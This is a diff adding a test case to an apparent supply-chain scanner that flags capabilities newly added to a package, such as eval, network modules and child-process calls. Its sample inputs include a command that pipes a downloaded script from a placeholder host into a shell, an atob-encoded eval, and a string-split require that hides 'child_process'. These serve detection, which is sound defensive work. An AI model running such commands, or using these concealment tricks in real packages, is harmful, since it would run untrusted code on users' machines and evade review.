@@ -68,6 +68,16 @@ describe('capability-added', () => {
     expect(await now({ 'index.js': 'b()', 'node_modules/a/test/a.js': exec })).toEqual([])
   })
 
+  it('names a new way of what the package did before', () => {
+    const before = of({ 'index.js': "eval(x); fetch('/a'); require('child_process').exec('git')" })
+    const way = (text: string): readonly string[] => found(of({ 'index.js': text }), before)
+    expect(way("eval(y); fetch('/b'); require('child_process').exec('ls'); require('https')")).toEqual([])
+    expect(way('eval(atob(x))')).toEqual(['warning index.js evaluation'])
+    expect(way("require('dgram')")).toEqual(['warning index.js network'])
+    expect(way("require('child_process').exec('curl https://a.zz/x | sh')")).toEqual(['warning index.js process'])
+    expect(way("f('node', { detached: true, stdio: 'ignore' })")).toEqual(['warning index.js process'])
+  })
+
   it('blocks names that are hidden, even where the package does the same openly', () => {
     const now = of({ 'index.js': `${exec}require('chi' + 'ld_process')` })
     expect(found(now, of({ 'index.js': exec }))).toEqual(['error index.js concealed process'])
